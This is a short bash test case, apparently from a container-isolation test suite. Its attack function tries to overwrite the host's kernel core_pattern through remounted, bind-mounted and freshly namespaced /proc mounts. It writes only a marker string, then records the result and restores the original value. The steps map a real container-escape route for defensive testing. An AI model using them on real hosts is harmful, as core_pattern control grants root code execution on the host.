# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='--nesting has a whole proc stand by: core_pattern by it, and by a proc mounted in a user namespace made inside'
OPTIONS_nbox=(--nesting) OPTIONS_lxc=('lxc.include = /usr/share/lxc/config/nesting.conf')
NEEDS_USERS='whoever is the host'"'"'s root and may mount has a /proc of his own'

PATTERN=/proc/sys/kernel/core_pattern

setup() {
        cat "$PATTERN" >"$PREY/pattern"
        ! grep -q core.escape "$PREY/pattern" || fail "an earlier run has left core.escape in $PATTERN"
}

attack() {
        mkdir /escape/proc /escape/host
        cat >/escape/write <<'WRITE'
for proc in /proc /escape/proc /run/host/nesting/proc /escape/host/nesting/proc /dev/.lxc/proc; do
        mount -o remount,rw,bind "$proc/sys"
        umount "$proc/sys"
        echo core.escape >"$proc/sys/kernel/core_pattern" && echo "written by $proc"
done
WRITE
        # As it is, and after what could open the way to it.
        /bin/busybox sh /escape/write
        /bin/busybox chmod 755 /run/host/nesting
        /bin/busybox mount --rbind /run/host /escape/host
        /bin/busybox chown 0:0 /escape/host/nesting
        /bin/busybox sh /escape/write
        # In namespaces of one's own, below and beside.
        for unshare in 'unshare -mpf' 'unshare -Urmpf'; do
                # shellcheck disable=SC2086
                /bin/busybox $unshare /bin/busybox sh -c 'mount -t proc proc /escape/proc && echo "a proc of its own" && sh /escape/write'
        done
}

verdict() {
        if [ "$(cat "$PATTERN")" != "$(cat "$PREY/pattern")" ]; then
                works "$(grep '^written' "$OUT" | sort -u | paste -sd ' ')"
        elif [ "$RUNNER" = nbox ] && [ "$(grep -c '^a proc of its own' "$OUT")" != 2 ]; then
                fail "no proc can be mounted with --nesting: $(cat "$OUT")"
        else
                blocked "it is as before"
        fi
}

undo() { cat "$PREY/pattern" >"$PATTERN"; }
